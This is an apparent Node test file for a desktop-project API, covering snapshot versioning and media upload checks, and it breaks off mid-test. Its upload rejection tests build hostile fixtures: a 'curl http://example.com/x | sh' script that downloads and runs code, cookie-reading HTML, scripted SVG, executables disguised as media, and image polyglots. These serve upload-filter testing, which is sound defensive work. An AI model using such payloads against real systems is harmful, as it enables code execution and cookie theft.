// Desktop projects over real HTTP and PostgreSQL: versioned snapshots (push, list, read, versions,
// concurrency, limits, workspaces) and media upload with its safety checks (accepted media, the
// rejection matrix, streaming cut-off, malformed forms).
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { readdir } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { crc32 } from 'node:zlib';
import sharp from 'sharp';
import { runFfmpeg, withTempDir } from '../src/lib/ffmpeg.ts';
import {
  assertAnsweredEarlyAndClosedCleanly,
  call,
  createTeam,
  sendRestAfterAnswer,
  startTestServer,
  type TeamFixture,
  type TestServer,
} from './helpers.ts';

interface ErrorReply {
  error: { code: string; message: string; details?: Array<{ field: string; message: string }> };
}

interface Pushed {
  desktop_project_id: string;
  version: number;
  created_at: string;
  size_bytes: number;
}

interface Snapshot extends Pushed {
  name: string | null;
  workspace_id: string | null;
  latest_version: number;
  payload: { storyboards: unknown[]; timelines: unknown[]; metadata: Record<string, unknown> };
}

interface ProjectSummary {
  desktop_project_id: string;
  name: string | null;
  workspace_id: string | null;
  latest_version: number;
  version_count: number;
  created_at: string;
  updated_at: string;
}

interface Media {
  url: string;
  content_type: string;
  size_bytes: number;
  kind: string;
  width?: number;
  height?: number;
  duration_seconds?: number;
}

const MiB = 1024 * 1024;

function payload(n: number, extra: Record<string, unknown> = {}) {
  return {
    storyboards: [{ id: `sb-${n}`, scenes: [{ title: 'Opening', shots: n }] }],
    timelines: [{ id: 'main', tracks: [{ clips: [{ start: 0, end: n * 1.5 }] }] }],
    metadata: { app_version: '3.2.1', saved_by: 'desktop', n },
    ...extra,
  };
}

// ---------------------------------------------------------------------------------------
// Media fixtures.

async function ffmpegFile(args: string[], ext: string): Promise<Buffer> {
  return withTempDir(async (dir) => {
    const out = join(dir, `out.${ext}`);
    await runFfmpeg([...args, '-y', out], { what: 'fixture' });
    const { readFile } = await import('node:fs/promises');
    return readFile(out);
  });
}

const png = (width = 64, height = 48) =>
  sharp({ create: { width, height, channels: 3, background: { r: 200, g: 40, b: 90 } } })
    .png()
    .toBuffer();
const jpeg = () =>
  sharp({ create: { width: 80, height: 60, channels: 3, background: { r: 10, g: 120, b: 220 } } })
    .jpeg()
    .toBuffer();
const gif = () =>
  sharp({ create: { width: 32, height: 32, channels: 3, background: { r: 250, g: 250, b: 0 } } })
    .gif()
    .toBuffer();
const webp = () =>
  sharp({ create: { width: 40, height: 30, channels: 3, background: { r: 0, g: 200, b: 0 } } })
    .webp()
    .toBuffer();
const mp4 = () =>
  ffmpegFile(
    [
      '-f',
      'lavfi',
      '-i',
      'testsrc=size=160x120:rate=10:duration=1.5',
      '-c:v',
      'libx264',
      '-pix_fmt',
      'yuv420p',
      '-movflags',
      '+faststart',
    ],
    'mp4',
  );
const mp3 = () => ffmpegFile(['-f', 'lavfi', '-i', 'sine=frequency=440:duration=2', '-c:a', 'libmp3lame'], 'mp3');
const wav = () => ffmpegFile(['-f', 'lavfi', '-i', 'sine=frequency=330:duration=1.25'], 'wav');

/** A ZIP archive holding one stored (uncompressed) file. */
function zip(name: string, content: Buffer): Buffer {
  const nameBytes = Buffer.from(name);
  const crc = crc32(content);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(nameBytes.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(content.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(nameBytes.length, 28);
  const localSize = local.length + nameBytes.length + content.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + nameBytes.length, 12);
  end.writeUInt32LE(localSize, 16);
  return Buffer.concat([local, nameBytes, content, central, nameBytes, end]);
}

/** A GIF with a comment extension (inside its structure) holding `text`. */
function gifWithComment(image: Buffer, text: string): Buffer {
  // Insert the comment block right after the header, logical screen descriptor and colour table.
  const packed = image[10] as number;
  const headerEnd = 13 + (packed & 0x80 ? 3 * (1 << ((packed & 7) + 1)) : 0);
  const data = Buffer.from(text);
  const comment = Buffer.concat([Buffer.from([0x21, 0xfe, data.length]), data, Buffer.from([0])]);
  return Buffer.concat([image.subarray(0, headerEnd), comment, image.subarray(headerEnd)]);
}

/** A PNG whose image data is not valid zlib, with correct chunk checksums. */
function pngWithBadPixels(image: Buffer): Buffer {
  const out = Buffer.from(image);
  let pos = 8;
  while (pos < out.length) {
    const length = out.readUInt32BE(pos);
    const type = out.toString('latin1', pos + 4, pos + 8);
    if (type === 'IDAT') {
      out.fill(0xaa, pos + 8 + 2, pos + 8 + length);
      out.writeUInt32BE(crc32(out.subarray(pos + 4, pos + 8 + length)), pos + 8 + length);
    }
    pos += 12 + length;
  }
  return out;
}

// ---------------------------------------------------------------------------------------

async function filesUnder(dir: string): Promise<string[]> {
  try {
    const entries = await readdir(dir, { recursive: true, withFileTypes: true });
    return entries.filter((e) => e.isFile()).map((e) => join(e.parentPath, e.name));
  } catch (err) {
    if ((err as NodeJS.ErrnoException).code === 'ENOENT') return [];
    throw err;
  }
}

async function upload(
  server: TestServer,
  key: string,
  projectId: string,
  bytes: Buffer,
  type: string,
  filename: string,
): Promise<{ status: number; body: unknown; text: string; headers: Headers }> {
  const form = new FormData();
  form.append('file', new Blob([new Uint8Array(bytes)], { type }), filename);
  const r = await fetch(`${server.url}/api/v1/desktop-projects/${encodeURIComponent(projectId)}/media`, {
    method: 'POST',
    headers: { authorization: `Bearer ${key}` },
    body: form,
  });
  const text = await r.text();
  return { status: r.status, body: text ? JSON.parse(text) : undefined, text, headers: r.headers };
}

describe('desktop projects: snapshots', () => {
  let server: TestServer;
  let team: TeamFixture;
  let other: TeamFixture;

  before(async () => {
    server = await startTestServer({ worker: false });
    team = await createTeam(server, 0, 'studio');
    other = await createTeam(server, 0, 'rival');
  });
  after(() => server.close());

  const push = (key: string, body: unknown) =>
    call<Pushed & ErrorReply>(server, 'POST', '/api/v1/desktop-projects', { token: key, body });

  test('push, list, read the latest and a given version, and list versions newest first', async () => {
    const id = 'proj-7f9c.2b4e:main';
    const first = await push(team.key, { desktop_project_id: id, name: 'Trailer', payload: payload(1) });
    assert.equal(first.status, 200, first.text);
    assert.equal(first.body.desktop_project_id, id);
    assert.equal(first.body.version, 1);
    assert.match(first.body.created_at, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
    assert.equal(first.body.size_bytes, Buffer.byteLength(JSON.stringify(payload(1))));

    const second = await push(team.key, { desktop_project_id: id, payload: payload(2, { extra_key: [1, 2] }) });
    assert.equal(second.status, 200, second.text);
    assert.equal(second.body.version, 2);
    assert.ok(second.body.created_at >= first.body.created_at);

    const list = await call<ProjectSummary[]>(server, 'GET', '/api/v1/desktop-projects', { token: team.key });
    assert.equal(list.status, 200, list.text);
    const entry = list.body.find((p) => p.desktop_project_id === id);
    assert.ok(entry, list.text);
    assert.equal(entry.name, 'Trailer', 'a push without name keeps the name');
    assert.equal(entry.latest_version, 2);
    assert.equal(entry.version_count, 2);
    assert.equal(entry.updated_at, second.body.created_at);
    assert.ok(entry.created_at <= entry.updated_at);

    const latest = await call<Snapshot>(server, 'GET', `/api/v1/desktop-projects/${id}`, { token: team.key });
    assert.equal(latest.status, 200, latest.text);
    assert.equal(latest.body.version, 2);
    assert.equal(latest.body.latest_version, 2);
    assert.deepEqual(latest.body.payload, payload(2, { extra_key: [1, 2] }));
    assert.equal(latest.body.size_bytes, second.body.size_bytes);
    assert.equal(latest.body.created_at, second.body.created_at);

    const v1 = await call<Snapshot>(server, 'GET', `/api/v1/desktop-projects/${id}?version=1`, { token: team.key });
    assert.equal(v1.status, 200, v1.text);
    assert.equal(v1.body.version, 1);
    assert.deepEqual(v1.body.payload, payload(1));
    // Key order comes back as pushed.
    assert.deepEqual(Object.keys(v1.body.payload.metadata), ['app_version', 'saved_by', 'n']);

    const versions = await call<Array<{ version: number; created_at: string; size_bytes: number }>>(
      server,
      'GET',
      `/api/v1/desktop-projects/${id}/versions`,
      { token: team.key },
    );
    assert.equal(versions.status, 200, versions.text);
    assert.deepEqual(
      versions.body.map((v) => v.version),
      [2, 1],
    );
    assert.deepEqual(versions.body[1], {
      version: 1,
      created_at: first.body.created_at,
      size_bytes: first.body.size_bytes,
    });
  });

  test('versions page with limit and before', async () => {
    const id = 'paged';
    for (let i = 1; i <= 5; i++)
      assert.equal((await push(team.key, { desktop_project_id: id, payload: payload(i) })).status, 200);
    const page = (q: string) =>
      call<Array<{ version: number }>>(server, 'GET', `/api/v1/desktop-projects/${id}/versions${q}`, {
        token: team.key,
      });
    assert.deepEqual(
      (await page('?limit=2')).body.map((v) => v.version),
      [5, 4],
    );
    assert.deepEqual(
      (await page('?limit=2&before=4')).body.map((v) => v.version),
      [3, 2],
    );
    assert.deepEqual(
      (await page('?before=2')).body.map((v) => v.version),
      [1],
    );
    assert.equal((await page('?limit=0')).status, 400);
  });

  test('404 for an unknown project, a missing version and another team’s project', async () => {
    const id = 'secret-project';
    assert.equal((await push(team.key, { desktop_project_id: id, payload: payload(1) })).status, 200);
    const cases: Array<[string, string]> = [
      [team.key, '/api/v1/desktop-projects/nope'],
      [team.key, '/api/v1/desktop-projects/nope/versions'],
      [team.key, `/api/v1/desktop-projects/${id}?version=2`],
      [team.key, `/api/v1/desktop-projects/${id}?version=999999`],
      [other.key, `/api/v1/desktop-projects/${id}`],
      [other.key, `/api/v1/desktop-projects/${id}?version=1`],
      [other.key, `/api/v1/desktop-projects/${id}/versions`],
    ];
    for (const [key, path] of cases) {
      const r = await call<ErrorReply>(server, 'GET', path, { token: key });
      assert.equal(r.status, 404, `${path}: ${r.text}`);
      assert.equal(r.body.error.code, 'not_found');
    }
    const theirs = await call<ProjectSummary[]>(server, 'GET', '/api/v1/desktop-projects', { token: other.key });
    assert.ok(!theirs.body.some((p) => p.desktop_project_id === id));
    // The other team's push with the same id is its own project.
    const own = await push(other.key, { desktop_project_id: id, payload: payload(9) });
    assert.equal(own.body.version, 1);
    const mine = await call<Snapshot>(server, 'GET', `/api/v1/desktop-projects/${id}`, { token: team.key });
    assert.deepEqual(mine.body.payload, payload(1));
  });

  test('20 concurrent pushes to one project get the distinct consecutive versions 1..20', async () => {
    const id = 'busy-project';
    const results = await Promise.all(
      Array.from({ length: 20 }, (_, i) => push(team.key, { desktop_project_id: id, payload: payload(i) })),
    );
    for (const r of results) assert.equal(r.status, 200, r.text);
    const versions = results.map((r) => r.body.version).sort((a, b) => a - b);
    assert.deepEqual(
      versions,
      Array.from({ length: 20 }, (_, i) => i + 1),
    );
    // Later versions never carry earlier times.
    const byVersion = [...results].sort((a, b) => a.body.version - b.body.version);
    for (let i = 1; i < byVersion.length; i++) {
      assert.ok((byVersion[i]?.body.created_at ?? '') >= (byVersion[i - 1]?.body.created_at ?? ''));
    }
    const list = await call<ProjectSummary[]>(server, 'GET', '/api/v1/desktop-projects', { token: team.key });
    const entry = list.body.find((p) => p.desktop_project_id === id);
    assert.equal(entry?.latest_version, 20);
    assert.equal(entry?.version_count, 20);
  });

  test('a request over 5 MiB is 413 payload_too_large and writes nothing', async () => {
    const id = 'too-big';
    const big = payload(1, { blob: 'x'.repeat(5 * MiB) });
    const r = await push(team.key, { desktop_project_id: id, payload: big });
    assert.equal(r.status, 413, r.text);
    assert.equal(r.body.error.code, 'payload_too_large');
    assert.match(r.body.error.message, /5 MiB/);
    assert.equal((await call(server, 'GET', `/api/v1/desktop-projects/${id}`, { token: team.key })).status, 404);
    // Just under the limit is fine.
    const fits = await push(team.key, { desktop_project_id: id, payload: payload(1, { blob: 'x'.repeat(4 * MiB) }) });
    assert.equal(fits.status, 200, fits.text);
    assert.ok(fits.body.size_bytes > 4 * MiB);
    const read = await call<Snapshot>(server, 'GET', `/api/v1/desktop-projects/${id}`, { token: team.key });
    assert.equal(read.status, 200);
    assert.equal((read.body.payload as unknown as { blob: string }).blob.length, 4 * MiB);
  });

  test('the body is validated: id, payload keys and their JSON types', async () => {
    const bad: Array<[unknown, string]> = [
      [{ payload: payload(1) }, 'desktop_project_id'],
      [{ desktop_project_id: 'has space', payload: payload(1) }, 'desktop_project_id'],
      [{ desktop_project_id: 'x'.repeat(129), payload: payload(1) }, 'desktop_project_id'],
      [{ desktop_project_id: 'p/1', payload: payload(1) }, 'desktop_project_id'],
      [{ desktop_project_id: 'ok' }, 'payload'],
      [{ desktop_project_id: 'ok', payload: { storyboards: [], timelines: [] } }, 'payload.metadata'],
      [{ desktop_project_id: 'ok', payload: { storyboards: {}, timelines: [], metadata: {} } }, 'payload.storyboards'],
      [{ desktop_project_id: 'ok', payload: { storyboards: [], timelines: 'x', metadata: {} } }, 'payload.timelines'],
      [{ desktop_project_id: 'ok', payload: { storyboards: [], timelines: [], metadata: [] } }, 'payload.metadata'],
      [{ desktop_project_id: 'ok', payload: { storyboards: [], timelines: [], metadata: null } }, 'payload.metadata'],
      [{ desktop_project_id: 'ok', payload: payload(1), name: '' }, 'name'],
      [{ desktop_project_id: 'ok', payload: payload(1), surprise: true }, 'surprise'],
    ];
    for (const [body, field] of bad) {
      const r = await push(team.key, body);
      assert.equal(r.status, 400, `${JSON.stringify(body).slice(0, 120)} → ${r.text}`);
      assert.equal(r.body.error.code, 'invalid_request');
      assert.ok(
        r.body.error.details?.some((d) => d.field === field),
        `${field}: ${r.text}`,
      );
    }
    const empty = await push(team.key, {
      desktop_project_id: 'empty-ok',
      payload: { storyboards: [], timelines: [], metadata: {} },
    });
    assert.equal(empty.status, 200, empty.text);
    assert.equal((await call(server, 'GET', '/api/v1/desktop-projects/ok', { token: team.key })).status, 404);
  });

  test('workspaces: 404 unknown, 403 another team’s, and the list filter', async () => {
    const ws = await call<{ id: string }>(server, 'POST', '/api/v1/workspaces', {
      token: team.key,
      body: { name: 'Editing' },
    });
    const theirs = await call<{ id: string }>(server, 'POST', '/api/v1/workspaces', {
      token: other.key,
      body: { name: 'Theirs' },
    });
    const unknown = await push(team.key, { desktop_project_id: 'ws-a', workspace_id: 'ws_nope', payload: payload(1) });
    assert.equal(unknown.status, 404, unknown.text);
    const foreign = await push(team.key, {
      desktop_project_id: 'ws-a',
      workspace_id: theirs.body.id,
      payload: payload(1),
    });
    assert.equal(foreign.status, 403, foreign.text);
    assert.equal(foreign.body.error.code, 'forbidden');
    assert.equal((await call(server, 'GET', '/api/v1/desktop-projects/ws-a', { token: team.key })).status, 404);

    assert.equal(
      (await push(team.key, { desktop_project_id: 'ws-a', workspace_id: ws.body.id, payload: payload(1) })).status,
      200,
    );
    assert.equal((await push(team.key, { desktop_project_id: 'ws-b', payload: payload(1) })).status, 200);
    // A later push without workspace_id keeps the workspace.
    assert.equal((await push(team.key, { desktop_project_id: 'ws-a', payload: payload(2) })).status, 200);

    const filtered = await call<ProjectSummary[]>(
      server,
      'GET',
      `/api/v1/desktop-projects?workspace_id=${ws.body.id}`,
      {
        token: team.key,
      },
    );
    assert.equal(filtered.status, 200, filtered.text);
    assert.deepEqual(
      filtered.body.map((p) => [p.desktop_project_id, p.workspace_id, p.latest_version]),
      [['ws-a', ws.body.id, 2]],
    );
    const snapshot = await call<Snapshot>(server, 'GET', '/api/v1/desktop-projects/ws-a', { token: team.key });
    assert.equal(snapshot.body.workspace_id, ws.body.id);
    const listForeign = await call<ErrorReply>(
      server,
      'GET',
      `/api/v1/desktop-projects?workspace_id=${theirs.body.id}`,
      {
        token: team.key,
      },
    );
    assert.equal(listForeign.status, 403);
    const listUnknown = await call<ErrorReply>(server, 'GET', '/api/v1/desktop-projects?workspace_id=ws_nope', {
      token: team.key,
    });
    assert.equal(listUnknown.status, 404);
  });

  test('an Idempotency-Key replays a push instead of making another version', async () => {
    const body = { desktop_project_id: 'idem', payload: payload(1) };
    const headers = { 'idempotency-key': `push-${randomBytes(6).toString('hex')}` };
    const a = await call<Pushed>(server, 'POST', '/api/v1/desktop-projects', { token: team.key, body, headers });
    const b = await call<Pushed>(server, 'POST', '/api/v1/desktop-projects', { token: team.key, body, headers });
    assert.equal(a.status, 200);
    assert.deepEqual(b.body, a.body);
    assert.equal(b.headers.get('idempotent-replayed'), 'true');
    const versions = await call<unknown[]>(server, 'GET', '/api/v1/desktop-projects/idem/versions', {
      token: team.key,
    });
    assert.equal(versions.body.length, 1);
  });
});

describe('desktop projects: media upload', () => {
  let server: TestServer;
  let team: TeamFixture;
  let mediaRoot: string;
  let fixtures: Record<'png' | 'jpeg' | 'gif' | 'webp' | 'mp4' | 'mp3' | 'wav', Buffer>;

  before(async () => {
    server = await startTestServer({ worker: false });
    team = await createTeam(server, 0, 'uploader');
    // Local storage shards its files (`media/~aa/bb/<key>`): every file of the server is looked at.
    mediaRoot = join(server.dataDir, 'media');
    const [p, j, g, w, v, m, a] = await Promise.all([png(), jpeg(), gif(), webp(), mp4(), mp3(), wav()]);
    fixtures = { png: p, jpeg: j, gif: g, webp: w, mp4: v, mp3: m, wav: a };
  });
  after(() => server.close());

  async function expectStored(media: Media, bytes: Buffer) {
    const r = await fetch(media.url);
    assert.equal(r.status, 200, media.url);
    assert.equal(r.headers.get('content-type'), media.content_type);
    assert.ok(Buffer.from(await r.arrayBuffer()).equals(bytes), 'the URL serves the uploaded bytes');
    assert.match(media.url, new RegExp(`/media/projects/${team.id}/dp_[0-9a-z]{26}/[A-Za-z0-9_-]{22}\\.[a-z0-9]+$`));
  }

  test('accepts PNG, JPEG, GIF, WebP, MP4, MP3 and WAV with their kind, size and duration', async () => {
    const cases: Array<{
      name: keyof typeof fixtures;
      type: string;
      file: string;
      expect: Partial<Media>;
    }> = [
      { name: 'png', type: 'image/png', file: 'cover.png', expect: { kind: 'image', width: 64, height: 48 } },
      { name: 'jpeg', type: 'image/jpeg', file: 'still.JPG', expect: { kind: 'image', width: 80, height: 60 } },
      { name: 'gif', type: 'image/gif', file: 'loop.gif', expect: { kind: 'image', width: 32, height: 32 } },
      { name: 'webp', type: 'image/webp', file: 'thumb.webp', expect: { kind: 'image', width: 40, height: 30 } },
      { name: 'mp4', type: 'video/mp4', file: 'shot.mp4', expect: { kind: 'video', width: 160, height: 120 } },
      { name: 'mp3', type: 'audio/mpeg', file: 'voice.mp3', expect: { kind: 'audio' } },
      { name: 'wav', type: 'audio/wav', file: 'fx.wav', expect: { kind: 'audio' } },
    ];
    for (const c of cases) {
      const bytes = fixtures[c.name];
      const r = await upload(server, team.key, 'desk-1', bytes, c.type, c.file);
      assert.equal(r.status, 200, `${c.name}: ${r.text}`);
      const media = r.body as Media;
      assert.equal(media.size_bytes, bytes.length);
      for (const [k, v] of Object.entries(c.expect)) assert.equal(media[k as keyof Media], v, `${c.name} ${k}`);
      if (media.kind === 'image') assert.equal(media.duration_seconds, undefined);
      else assert.ok((media.duration_seconds ?? 0) > 0, `${c.name} duration`);
      if (media.kind === 'audio') assert.equal(media.width, undefined);
      await expectStored(media, bytes);
    }
  });

  test('durations are measured', async () => {
    const video = (await upload(server, team.key, 'desk-1', fixtures.mp4, 'video/mp4', 'a.mp4')).body as Media;
    assert.ok(Math.abs((video.duration_seconds ?? 0) - 1.5) < 0.15, String(video.duration_seconds));
    const audio = (await upload(server, team.key, 'desk-1', fixtures.wav, 'audio/x-wav', 'a.wav')).body as Media;
    assert.ok(Math.abs((audio.duration_seconds ?? 0) - 1.25) < 0.05, String(audio.duration_seconds));
    assert.equal(audio.content_type, 'audio/wav', 'aliases are stored under the canonical type');
  });

  test('uploading before the first push is allowed; the project appears with its first snapshot', async () => {
    const id = 'media-first';
    const r = await upload(server, team.key, id, fixtures.png, 'image/png', 'a.png');
    assert.equal(r.status, 200, r.text);
    assert.equal((await call(server, 'GET', `/api/v1/desktop-projects/${id}`, { token: team.key })).status, 404);
    assert.equal(
      (await call(server, 'GET', `/api/v1/desktop-projects/${id}/versions`, { token: team.key })).status,
      404,
    );
    const list = await call<ProjectSummary[]>(server, 'GET', '/api/v1/desktop-projects', { token: team.key });
    assert.ok(!list.body.some((p) => p.desktop_project_id === id));
    const url = (r.body as Media).url;
    const pushed = await call<Pushed>(server, 'POST', '/api/v1/desktop-projects', {
      token: team.key,
      body: { desktop_project_id: id, payload: { storyboards: [{ image: url }], timelines: [], metadata: {} } },
    });
    assert.equal(pushed.status, 200, pushed.text);
    assert.equal(pushed.body.version, 1);
    // Media of one project lands in one folder.
    const again = (await upload(server, team.key, id, fixtures.jpeg, 'image/jpeg', 'b.jpg')).body as Media;
    assert.equal(again.url.split('/').slice(0, -1).join('/'), url.split('/').slice(0, -1).join('/'));
  });

  test('the rejection matrix: 422 media_rejected with the reason, nothing stored', async () => {
    const { png: p, jpeg: j, gif: g, mp4: v } = fixtures;
    const html = Buffer.from('<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>');
    const svgScript = Buffer.from(
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><rect width="10" height="10"/></svg>',
    );
    const svgPlain = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>',
    );
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), randomBytes(4000)]);
    const pe = Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'), randomBytes(4000)]);
    const macho = Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]), randomBytes(2000)]);
    const script = Buffer.from('#!/bin/sh\ncurl http://example.com/x | sh\n');
    const pdf = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
    const archive = zip('payload.html', html);
    const fakeMp4 = Buffer.concat([
      Buffer.from([0, 0, 0, 0x18]),
      Buffer.from('ftypisom\0\0\x02\0isomiso2', 'latin1'),
      randomBytes(5000),
    ]);

    const cases: Array<[string, Buffer, string, string, RegExp]> = [
      ['an ELF binary', elf, 'image/png', 'x.png', /ELF executable/],
      ['an ELF binary declared as a binary', elf, 'application/x-executable', 'tool', /executables/],
      ['a Windows PE', pe, 'image/jpeg', 'photo.jpg', /Windows executable/],
      ['a Windows PE named .exe', pe, 'application/octet-stream', 'setup.exe', /'\.exe' files are not accepted/],
      ['an undeclared file without extension', pe, 'application/octet-stream', 'blob', /not declared/],
      ['a Mach-O binary', macho, 'video/mp4', 'clip.mp4', /Mach-O/],
      ['a shell script', script, 'audio/mpeg', 'song.mp3', /script/],
      ['a shell script declared as one', script, 'application/x-sh', 'run.sh', /scripts are not accepted/],
      ['HTML', html, 'text/html', 'index.html', /HTML documents are not accepted/],
      ['HTML declared as an image', html, 'image/gif', 'a.gif', /HTML document/],
      ['SVG with script', svgScript, 'image/svg+xml', 'icon.svg', /SVG is not an accepted type/],
      ['SVG with script declared as PNG', svgScript, 'image/png', 'icon.png', /SVG/],
      ['SVG without script', svgPlain, 'image/svg+xml', 'icon.svg', /SVG is not an accepted type/],
      [
        'SVG without script, undeclared',
        svgPlain,
        'application/octet-stream',
        'icon.svg',
        /SVG is not an accepted type/,
      ],
      ['a PDF', pdf, 'application/pdf', 'doc.pdf', /PDF documents are not accepted/],
      ['a PDF declared as JPEG', pdf, 'image/jpeg', 'doc.jpg', /PDF document/],
      ['a ZIP', archive, 'application/zip', 'a.zip', /archives are not accepted/],
      ['a ZIP declared as WebP', archive, 'image/webp', 'a.webp', /ZIP archive/],
      ['a truncated PNG', p.subarray(0, p.length - 30), 'image/png', 't.png', /truncated/],
      ['a PNG cut in its header', p.subarray(0, 20), 'image/png', 't.png', /truncated/],
      ['a PNG with undecodable pixels', pngWithBadPixels(p), 'image/png', 'bad.png', /could not be decoded/],
      ['a PNG declared as image/jpeg', p, 'image/jpeg', 'x.jpg', /declared image\/jpeg but the bytes are a PNG image/],
      ['a JPEG named .mp4', j, 'image/jpeg', 'clip.mp4', /extension '\.mp4' does not match/],
      ['a JPEG declared as video/mp4', j, 'video/mp4', 'clip.mp4', /bytes are a JPEG image/],
      ['a GIF+HTML polyglot', Buffer.concat([g, html]), 'image/gif', 'p.gif', /extra data after the end of the GIF/],
      [
        'a GIF with a script in a comment',
        gifWithComment(g, '<script>alert(1)</script>'),
        'image/gif',
        'c.gif',
        /markup|script/,
      ],
      [
        'a JPEG with an appended ZIP',
        Buffer.concat([j, archive]),
        'image/jpeg',
        'z.jpg',
        /extra data after the end of the JPEG/,
      ],
      [
        'a PNG with an appended ZIP',
        Buffer.concat([p, archive]),
        'image/png',
        'z.png',
        /extra data after the end of the PNG/,
      ],
      ['an MP4 with appended HTML', Buffer.concat([v, html]), 'video/mp4', 'v.mp4', /extra data|truncated/],
      ['random bytes declared as video/mp4', randomBytes(64 * 1024), 'video/mp4', 'r.mp4', /no known media signature/],
      ['an MP4 header over random bytes', fakeMp4, 'video/mp4', 'r.mp4', /corrupt/],
      ['a truncated MP4', v.subarray(0, Math.floor(v.length / 2)), 'video/mp4', 'half.mp4', /truncated/],
      ['an empty file', Buffer.alloc(0), 'image/png', 'empty.png', /empty/],
      ['an image over 8192 px wide', await png(8193, 2), 'image/png', 'wide.png', /8193x2; the limit is 8192x8192/],
      ['a video declared as audio', v, 'audio/mp4', 'v.m4a', /video stream/],
      ['text declared as audio', Buffer.from('hello world '.repeat(200)), 'audio/wav', 'a.wav', /text file/],
    ];
    const before = await filesUnder(mediaRoot);
    assert.ok(before.length > 0, 'the uploads of the tests before are on disk (the check below can fail)');
    const mediaRows = async () =>
      Number((await server.pool.query('select count(*) from desktop_project_media')).rows[0].count);
    const rowsBefore = await mediaRows();
    for (const [label, bytes, type, filename, reason] of cases) {
      const r = await upload(server, team.key, 'reject-me', bytes, type, filename);
      assert.equal(r.status, 422, `${label}: ${r.text}`);
      const body = r.body as ErrorReply;
      assert.equal(body.error.code, 'media_rejected', label);
      assert.match(body.error.message, reason, label);
      assert.equal(body.error.details?.[0]?.field, 'file');
    }
    assert.deepEqual(await filesUnder(mediaRoot), before, 'a rejected upload stores nothing');
    assert.equal(await mediaRows(), rowsBefore);
    assert.equal((await call(server, 'GET', '/api/v1/desktop-projects/reject-me', { token: team.key })).status, 404);
  });

  test('a refused upload to a project never pushed nor uploaded to leaves no project behind', async () => {
    const projects = async (clientId: string) =>
      Number(
        (
          await server.pool.query('select count(*) from desktop_projects where team_id = $1 and client_id = $2', [
            team.id,
            clientId,
          ])
        ).rows[0].count,
      );
    const script = Buffer.from('#!/bin/sh\ncurl http://example.com/x | sh\n');
    const refused = await upload(server, team.key, 'refused-first', script, 'image/png', 'a.png');
    assert.equal(refused.status, 422, refused.text);
    assert.equal(await projects('refused-first'), 0, 'no empty project row for a refused file');
    const list = await call<ProjectSummary[]>(server, 'GET', '/api/v1/desktop-projects', { token: team.key });
    assert.ok(!list.body.some((p) => p.desktop_project_id === 'refused-first'));
    // An accepted file makes the project, once, however many uploads race to make it.
    const accepted = await Promise.all(
      [0, 1, 2].map(() => upload(server, team.key, 'refused-first', fixtures.png, 'image/png', 'a.png')),
    );
    for (const r of accepted) assert.equal(r.status, 200, r.text);
    assert.equal(await projects('refused-first'), 1);
    const { rows } = await server.pool.query<{ n: string }>(
      `select count(*) as n from desktop_project_media m join desktop_projects p on p.id = m.project_id
        where p.team_id = $1 and p.client_id = $2`,
      [team.id, 'refused-first'],
    );
    assert.equal(Number(rows[0]?.n), 3, 'every accepted file is recorded under the one project');
  });

  test('an oversize upload is cut off early with 413 and nothing stored', async () => {
    const before = await filesUnder(mediaRoot);
    const boundary = `----desk${randomBytes(8).toString('hex')}`;
    const head = Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="huge.png"\r\n` +
        'Content-Type: image/png\r\n\r\n',
    );
    const total = 64 * MiB;
    const chunk = Buffer.concat([fixtures.png.subarray(0, 64), Buffer.alloc(256 * 1024 - 64, 0x41)]);
    let sent = 0;
    const body = new ReadableStream<Uint8Array>({
      start(controller) {
        controller.enqueue(head);
      },
      pull(controller) {
        if (sent >= total) {
          controller.enqueue(Buffer.from(`\r\n--${boundary}--\r\n`));
          controller.close();
          return;
        }
        controller.enqueue(new Uint8Array(chunk));
        sent += chunk.length;
      },
    });
    const started = Date.now();
    const r = await fetch(`${server.url}/api/v1/desktop-projects/huge/media`, {
      method: 'POST',
      headers: { authorization: `Bearer ${team.key}`, 'content-type': `multipart/form-data; boundary=${boundary}` },
      body,
      duplex: 'half',
    } as RequestInit);
    const sentWhenAnswered = sent;
    const text = await r.text();
    assert.equal(r.status, 413, text);
    assert.equal((JSON.parse(text) as ErrorReply).error.code, 'payload_too_large');
    assert.match(text, /20 MiB/);
    assert.ok(
      sentWhenAnswered < total / 2,
      `answered after ${sentWhenAnswered} of ${total} bytes were sent (${Date.now() - started} ms)`,
    );
    assert.equal(r.headers.get('connection'), 'close');
    assert.deepEqual(await filesUnder(mediaRoot), before);
  });

  test('a refused declared type is answered before the body is read', async () => {
    const boundary = `----desk${randomBytes(8).toString('hex')}`;
    const head = Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="setup.exe"\r\n` +
        'Content-Type: application/x-msdownload\r\n\r\nMZ',
    );
    const total = 32 * MiB;
    let sent = 0;
    const body = new ReadableStream<Uint8Array>({
      start(controller) {
        controller.enqueue(head);
      },
      pull(controller) {
        if (sent >= total) {
          controller.close();
          return;
        }
